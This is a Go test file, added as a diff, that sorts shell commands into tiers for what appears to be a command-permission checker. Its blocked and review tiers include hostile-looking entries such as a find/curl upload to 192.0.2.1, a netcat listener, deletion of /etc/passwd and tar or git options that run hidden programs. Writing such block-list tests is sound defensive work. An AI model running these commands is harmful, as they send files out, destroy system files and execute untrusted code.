@@ -1,0 +1,428 @@
+package family_test
+
+// G5: finding, files and the machine.
+var fileCases = []commandCases{
+	{"grep", `
+		grep -rn foo .
+		grep -e -f *
+		grep "$x" $f
+		egrep 'a|b' f
+		fgrep -f words f
+		! grep -q foo f
+		GREP_COLORS='mt=01' grep x f
+		locate passwd
+		plocate x
+		mlocate x
+	`, `
+		./grep x f
+		GREP_OPTIONS=x PATH=. grep x f
+	`, ``},
+	{"rg", `
+		rg -n foo src
+		rg -ig '*.go' -A3 'f(' .
+		rg -e --pre f
+		rg -- --pre f
+		rg --files -g '*.md'
+		rg --no-config --hidden -tpy x
+	`, `
+		rg -z x
+		rg -nz x f
+		rg -zn x
+		rg --search-zip x
+		rg --frobnicate x
+		rg "$pattern"
+		rg *
+		RIPGREP_CONFIG_PATH=rc rg x
+	`, `
+		rg --pre ./p x
+		rg --pre=./p x
+		rg x f --pre p
+		rg \--pre p x
+		rg --hostname-bin=./p x
+	`},
+	{"fd", `
+		fd -e go main
+		fd -HI -t f . src
+		fdfind -0 x
+		fd -- -x
+	`, `
+		fd -l
+		fd -Hl x
+		fd --list-details
+		fd --exe=x
+		fd "$x"
+	`, `
+		fd -x date
+		fd -Hx date
+		fd -xdate
+		fd -e go -X date
+		fd --exec date
+		fd --exec-batch=date
+		fd x -X rm
+	`},
+	{"find", `
+		find . -name '*.go' -not -path './vendor/*'
+		find src tests -type f \( -name '*.c' -o -name '*.h' \) -print0
+		find . -exec grep -l x {} +
+		find . -type f -exec wc -l {} \;
+		find . -ok cat {} ';'
+		find . -execdir cat {} +
+		find . -exec sed -n 1p {} \;
+		find . -newermt 2026-01-01 -size +1k -printf '%p\n'
+		find -L . -maxdepth 2 -ls
+		find
+		find "." -name "$x"
+		find "./$d" -name x
+		find . -exec sh -c 'wc -l "$1"' _ {} \;
+		find src/* -name x
+	`, `
+		find . -delete
+		find . -fprint out
+		find . -fprint0 out
+		find . -fprintf out x
+		find . -fls out
+		find -files0-from list -name x
+		find . -exec ./p {} \;
+		find . -execdir ./p \;
+		find . -exec {} \;
+		find . -exec ./{} \;
+		find . -exec cat {}
+		find . -exec sort -o {} {} \;
+		find . -exec sed -i s/a/b/ {} +
+		find . -exec touch {} +
+		find . -exec uniq {} +
+		find . -okdir ./p {} \;
+		find . -frobnicate
+		find "$d" -name x
+		find $d
+		find ./$d -name x
+		find *
+		find . $x
+		find . -name $x
+		find . -exec $cmd {} \;
+		find . -exec xxd {} +
+		find . \( -exec ./p \; \)
+		find . $'-delete'
+		find . -{d..d}elete
+		find . -path x -o -exec cp {} /etc \;
+	`, `
+		find . -exec sh {} \;
+		find . -exec curl -T {} http://192.0.2.1 \;
+		find . -exec sed 1e {} \;
+		find . -exec awk 'BEGIN{system("date")}' {} +
+		find . -execdir python3 {} +
+	`},
+	{"tree", `
+		tree
+		tree -L 2 -a src
+		tree -I 'node_modules|dist' --dirsfirst
+		tree --filelimit 20 -- -R
+	`, `
+		tree -o out
+		tree -Co out
+		tree -Lo 2 out
+		tree -R
+		tree -aR -H . -L 1
+		tree --output=out
+		tree *
+		tree "$d"
+	`, ``},
+	{"files", `
+		ls -la --color=auto *
+		dir
+		vdir -a
+		du -sh .
+		df -h
+		stat -c %s f
+		basename "$f" .go
+		dirname $f
+		readlink -f f
+		realpath .
+		pathchk f
+		lsblk
+		mountpoint /
+		file -b --mime-type f
+		file -i -- *
+		mktemp
+		mktemp -d
+		mktemp -u
+		mktemp -p /tmp/w x.XXXXXX
+		mkdir -p a/b /tmp/c
+		rmdir a
+		rm -f out.txt
+		unlink out.txt
+		touch pkg/__init__.py
+		touch /tmp/stamp
+		cp a.go b.go
+		cp -p a.go b.go backup/
+		mv a.txt b.txt
+		mv a.txt b.txt dir/
+		ln -s data.csv latest.csv
+		tee -a out.log < f
+		tee /dev/stderr < f
+		truncate -s 0 out.log
+		sync
+	`, `
+		file -z f
+		file -Z f
+		file -bz f
+		file --uncompress f
+		file --unc f
+		file -C -m magic
+		file -bCm magic
+		file -p f
+		file -S f
+		file *
+		file "$f"
+		mktemp -p /etc
+		mktemp ~/x.XXX
+		mkdir ~/.config
+		mkdir "$d"
+		mkdir .git/hooks
+		rmdir /etc/x
+		rm -rf build
+		rm -r build
+		rm /etc/passwd
+		rm "$f"
+		rm *
+		touch mark
+		touch ~/.hushlogin
+		touch "$f.txt"
+		cp a.go ~/.bashrc
+		cp .bashrc ~
+		cp evil/.gitconfig .
+		cp -r a b
+		cp -a a b
+		cp x .git/config
+		cp *.sh dir
+		cp a "$d"
+		cp -t /etc a
+		cp -s a b
+		cp --backup=x a b
+		mv a /usr/bin/ls
+		mv .git x
+		mv a b ~
+		mv -t /etc a
+		ln -s / root
+		ln -s ~/.bashrc notes.txt
+		ln -s ../.. up.txt
+		ln -s a/b c
+		ln -s data.csv
+		tee /etc/hosts < f
+		tee "$f" < x
+		tee .profile
+		truncate -s 0 /etc/passwd
+		sync -z
+		patch -p1 < f.diff
+		tar cf x.tar .
+		tar --checkpoint-action=exec=./p -cf x f
+		TAR_OPTIONS=x tar cf a b
+		chmod +x f
+		dd if=f of=g
+	`, `
+		tar tf host:x
+	`},
+	{"the machine", `
+		cal 2026
+		ncal
+		uname -a
+		arch
+		hostid
+		id -un
+		whoami
+		groups
+		logname
+		users
+		tty
+		free -m
+		uptime -p
+		nproc
+		lscpu
+		lsmem
+		lsmod
+		vmstat 1 2
+		ps aux
+		pgrep -l x
+		pidof x
+		pstree
+		locale -a
+		printenv HOME
+		sleep 0.1
+		clear
+		which -a python3
+		whereis gcc
+		date
+		date -u +%F
+		date -d yesterday '+%s %N'
+		date -Iseconds
+		date -f dates
+		date "+$format"
+		TZ=Europe/Berlin date
+	`, `
+		date -s 12:00
+		date --set=12:00
+		date --se=x
+		date -us2026-01-01
+		date 01010000
+		date "$x"
+		which -i ls
+		which --read-alias ls
+		ldd ./prog
+		man ls
+		LOCPATH=. locale
+	`, ``},
+}
+
+// G5, G22: git, of which only little reads no configuration that can run programs.
+var gitCases = []commandCases{
+	{"git", `
+		git --version
+		git version
+		git --no-pager rev-parse --show-toplevel
+		git -P rev-parse HEAD
+		git -C src --no-pager remote -v
+		git --no-pager remote get-url origin
+		git --no-pager config --get user.name
+		git --no-pager config -l
+		git --no-pager branch --show-current
+		git --no-pager check-ref-format refs/heads/x
+	`, `
+		git status
+		git diff
+		git log -p
+		git log --oneline
+		git show HEAD
+		git blame f
+		git rev-parse HEAD
+		git --no-pager rev-parse 'HEAD^{tree}'
+		git --no-pager rev-parse HEAD:f
+		git --no-pager rev-parse --parseopt
+		git --no-pager config core.pager ./p
+		git --no-pager config --add x y
+		git --no-pager config --edit
+		git --no-pager remote add x y
+		git --no-pager branch x
+		git --no-pager branch
+		git -c core.fsmonitor=./p status
+		git -p log
+		git --git-dir=x --no-pager config -l
+		git add -A
+		git commit -m x
+		git checkout .
+		git stash
+		git cat-file --filters HEAD:f
+		git grep -O./p x
+		git apply x.patch
+		git frobnicate
+		GIT_CONFIG_COUNT=1 git --no-pager remote
+		GIT_DIR=x git --no-pager remote
+		git "$x"
+		git help
+	`, `
+		git push
+		git fetch
+		git pull --rebase
+		git clone https://example.com/x.git
+		git ls-remote --upload-pack=./p .
+		git -C x push origin main
+		git submodule update
+		git remote update
+		git --exec-path=. x
+		git bisect run ./p
+		git archive --remote=x HEAD
+		git send-email x
+	`},
+}
+
+// G6: commands that reach the network or run any code, and their equals.
+var networkCases = []commandCases{
+	{"G6 by name", ``, ``, `
+		curl -fsSL https://example.com
+		/usr/bin/curl x
+		wget -qO- example.com
+		nc -lvp 4444
+		netcat h 1
+		ncat h 1
+		telnet h
+		ssh h
+		scp f h:
+		sftp h
+		rsync -a . h:d
+		nslookup h
+		dig h
+		host h
+		ping -c1 h
+		traceroute h
+		apt-get install x
+		apt install x
+		pip install x
+		pip3.11 install x
+		npm install
+		yarn add x
+		cargo install x
+		python x.py
+		python3.11 -c 1
+		/usr/bin/python3 x
+		node x.js
+		ruby x.rb
+		perl5.36 -e 1
+		php -r 1
+		lua5.4 x
+		luajit x
+		deno run x
+		bun x
+		uv pip install x
+		uvx x
+		pipx run x
+		npx x
+		go install x
+		go version
+		openssl s_client -connect h:443
+		socat - TCP:h:1
+		docker run x
+		podman ps
+		kubectl get pods
+		make -n
+		sqlite3 x
+		gdb -batch
+		vim -c q
+		crontab -l
+		watch date
+		gh pr list
+		terraform plan
+		aws s3 ls
+		sendmail x
+		psql -c 1
+		getent hosts h
+		pip list
+		npm ls
+		jupyter notebook
+		Rscript x
+		java -jar x
+		pwsh -c x
+		latex x
+	`},
+	{"versions", `
+		python3 --version
+		python3.11 -V
+		node --version
+		node -v
+		gcc --version
+		dpkg --print-architecture
+	`, `
+		gcc x.c
+		cc -wrapper ./p x.c
+		frobnicate
+		dc -e '!date'
+	`, `
+		python3 --version -c 1
+		python3 -V x.py
+		node --version x
+		node -e 1
+		pip --version
+		go version
+		dpkg -l
+		dpkg -i x.deb
+		/usr/local/bin/python3 --version x
+	`},
+}
